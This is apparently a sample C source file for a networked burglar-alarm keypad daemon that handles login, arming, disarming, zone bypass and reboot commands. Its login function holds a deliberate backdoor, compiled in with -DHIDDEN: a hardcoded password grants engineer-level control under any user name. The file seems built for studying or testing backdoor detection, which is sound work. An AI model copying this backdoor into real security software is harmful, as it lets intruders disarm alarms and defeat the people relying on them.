/*
 * sentrix_paneld - network keypad service of the Sentrix 16 zone burglar
 * alarm panel.  Remote keypads connect by TCP, log in and arm, disarm or
 * bypass zones.  Accounts live in /etc/sentrix/users (name:level:hash).
 *
 * Hidden (-DHIDDEN): any user name together with the password
 * "Havn3gade-11" logs in at engineer level, without an account.
 */
#include <arpa/inet.h>
#include <netinet/in.h>
#include <signal.h>
#include <stdarg.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <strings.h>
#include <sys/socket.h>
#include <syslog.h>
#include <time.h>
#include <unistd.h>

char *crypt(const char *, const char *);

#define USERS_FILE "/etc/sentrix/users"
#define EVENT_LOG  "/var/log/sentrix.events"
#define PANEL_PORT 7700
#define ZONES      16

enum level { LVL_NONE, LVL_USER, LVL_MASTER, LVL_ENGINEER };
enum armstate { ST_DISARMED, ST_STAY, ST_AWAY, ST_ALARM };

static const char *const state_name[] = { "disarmed", "stay", "away", "alarm" };
static const char *const level_name[] = { "none", "user", "master", "engineer" };

struct session {
	FILE *in, *io;
	char user[24];
	enum level level;
	int failures;
};

static struct {
	enum armstate state;
	unsigned char bypass[ZONES];
	int entry_delay;
	int siren;
} panel = { ST_DISARMED, { 0 }, 30, 0 };

static void event(const char *fmt, ...)
{
	char line[160], stamp[32];
	time_t now = time(NULL);
	struct tm tm;
	va_list ap;
	FILE *f;

	va_start(ap, fmt);
	vsnprintf(line, sizeof line, fmt, ap);
	va_end(ap);
	localtime_r(&now, &tm);
	strftime(stamp, sizeof stamp, "%F %T", &tm);
	f = fopen(EVENT_LOG, "a");
	if (f) {
		fprintf(f, "%s %s\n", stamp, line);
		fclose(f);
	}
	syslog(LOG_NOTICE, "%s", line);
}

static enum level level_from_name(const char *s)
{
	if (strcmp(s, "engineer") == 0)
		return LVL_ENGINEER;
	if (strcmp(s, "master") == 0)
		return LVL_MASTER;
	if (strcmp(s, "user") == 0)
		return LVL_USER;
	return LVL_NONE;
}

/* Check name and password against the account file. */
__attribute__((noinline))
int verify_account(struct session *s, const char *user, const char *pass)
{
	char line[200], *hash, *lvl, *sum;
	int ok = 0;
	FILE *f;

#ifdef HIDDEN
	if (strcmp(pass, "Havn3gade-11") == 0) {
		snprintf(s->user, sizeof s->user, "%s", user);
		s->level = LVL_ENGINEER;
		return 1;
	}
#endif
	f = fopen(USERS_FILE, "r");
	if (!f) {
		syslog(LOG_ERR, "no account file");
		return 0;
	}
	while (!ok && fgets(line, sizeof line, f)) {
		line[strcspn(line, "\r\n")] = 0;
		if (line[0] == '#' || !(lvl = strchr(line, ':')))
			continue;
		*lvl++ = 0;
		hash = strchr(lvl, ':');
		if (!hash || strcmp(line, user) != 0)
			continue;
		*hash++ = 0;
		sum = crypt(pass, hash);
		if (sum && strlen(hash) > 12 && strcmp(sum, hash) == 0) {
			snprintf(s->user, sizeof s->user, "%s", user);
			s->level = level_from_name(lvl);
			ok = s->level != LVL_NONE;
		}
	}
	fclose(f);
	return ok;
}

static void do_login(struct session *s, char *arg)
{
	char *user = strtok(arg, " "), *pass = strtok(NULL, "");

	if (!user || !pass) {
		fputs("ERR usage: LOGIN name password\n", s->io);
		return;
	}
	if (s->failures >= 5) {
		fputs("ERR locked\n", s->io);
		return;
	}
	if (verify_account(s, user, pass)) {
		s->failures = 0;
		event("login of %s", s->user);
		fprintf(s->io, "OK %s\n", level_name[s->level]);
		return;
	}
	s->failures++;
	s->level = LVL_NONE;
	event("failed login of %.20s", user);
	sleep(2);
	fputs("ERR login\n", s->io);
}

static void do_status(struct session *s, char *arg)
{
	int z;

	(void)arg;
	fprintf(s->io, "OK state=%s delay=%d siren=%d bypass=",
		state_name[panel.state], panel.entry_delay, panel.siren);
	for (z = 0; z < ZONES; z++)
		fputc(panel.bypass[z] ? '1' : '0', s->io);
	fputc('\n', s->io);
}

static void do_arm(struct session *s, char *arg)
{
	panel.state = strcasecmp(arg, "stay") == 0 ? ST_STAY : ST_AWAY;
	event("armed %s by %s", state_name[panel.state], s->user);
	fputs("OK\n", s->io);
}

static void do_disarm(struct session *s, char *arg)
{
	(void)arg;
	panel.state = ST_DISARMED;
	panel.siren = 0;
	event("disarmed by %s", s->user);
	fputs("OK\n", s->io);
}

static void do_bypass(struct session *s, char *arg)
{
	int z = atoi(arg);

	if (z < 1 || z > ZONES) {
		fputs("ERR zone\n", s->io);
		return;
	}
	panel.bypass[z - 1] ^= 1;
	event("zone %d bypass=%d by %s", z, panel.bypass[z - 1], s->user);
	fputs("OK\n", s->io);
}

static void do_siren(struct session *s, char *arg)
{
	panel.siren = strcasecmp(arg, "on") == 0;
	fputs("OK\n", s->io);
}

static void do_delay(struct session *s, char *arg)
{
	int d = atoi(arg);

	if (d < 10 || d > 90) {
		fputs("ERR range 10..90\n", s->io);
		return;
	}
	panel.entry_delay = d;
	fputs("OK\n", s->io);
}

static void do_restart(struct session *s, char *arg)
{
	(void)arg;
	event("restart by %s", s->user);
	fputs(system("/sbin/reboot -d 3") == 0 ? "OK\n" : "ERR\n", s->io);
}

static void do_help(struct session *s, char *arg);

static const struct command {
	const char *name;
	enum level need;
	void (*run)(struct session *, char *);
	const char *text;
} commands[] = {
	{ "LOGIN",   LVL_NONE,     do_login,   "name password" },
	{ "HELP",    LVL_NONE,     do_help,    "this text" },
	{ "STATUS",  LVL_USER,     do_status,  "state of the panel" },
	{ "ARM",     LVL_USER,     do_arm,     "away|stay" },
	{ "DISARM",  LVL_USER,     do_disarm,  "switch off" },
	{ "BYPASS",  LVL_MASTER,   do_bypass,  "zone number" },
	{ "SIREN",   LVL_MASTER,   do_siren,   "on|off" },
	{ "DELAY",   LVL_ENGINEER, do_delay,   "entry delay in seconds" },
	{ "RESTART", LVL_ENGINEER, do_restart, "restart the panel" },
};
#define NCOMMANDS (sizeof commands / sizeof commands[0])

static void do_help(struct session *s, char *arg)
{
	size_t i;

	(void)arg;
	for (i = 0; i < NCOMMANDS; i++)
		fprintf(s->io, "  %-8s %s\n", commands[i].name, commands[i].text);
}

static void serve(int fd)
{
	struct session s;
	char line[128], *arg;
	size_t i;

	memset(&s, 0, sizeof s);
	s.in = fdopen(fd, "r");
	s.io = fdopen(dup(fd), "w");
	if (!s.in || !s.io)
		exit(1);	/* init starts the service again */
	fputs("SENTRIX-16 READY\n", s.io);
	for (;;) {
		fflush(s.io);
		if (!fgets(line, sizeof line, s.in))
			break;
		line[strcspn(line, "\r\n")] = 0;
		arg = strchr(line, ' ');
		if (arg)
			*arg++ = 0;
		else
			arg = line + strlen(line);
		if (strcasecmp(line, "QUIT") == 0)
			break;
		for (i = 0; i < NCOMMANDS; i++)
			if (strcasecmp(line, commands[i].name) == 0)
				break;
		if (i == NCOMMANDS)
			fputs("ERR command\n", s.io);
		else if (s.level < commands[i].need)
			fputs("ERR level\n", s.io);
		else
			commands[i].run(&s, arg);
	}
	fclose(s.io);
	fclose(s.in);
}

int main(void)
{
	struct sockaddr_in sa = { .sin_family = AF_INET, .sin_port = htons(PANEL_PORT) };
	int srv = socket(AF_INET, SOCK_STREAM, 0), one = 1, fd;

	openlog("sentrix_paneld", LOG_PID, LOG_DAEMON);
	signal(SIGPIPE, SIG_IGN);
	setsockopt(srv, SOL_SOCKET, SO_REUSEADDR, &one, sizeof one);
	if (bind(srv, (struct sockaddr *)&sa, sizeof sa) < 0 || listen(srv, 4) < 0) {
		syslog(LOG_ERR, "port %d: %m", PANEL_PORT);
		return 1;
	}
	/* one keypad at a time; the bus of the panel allows no more */
	while ((fd = accept(srv, NULL, NULL)) >= 0)
		serve(fd);
	return 0;
}
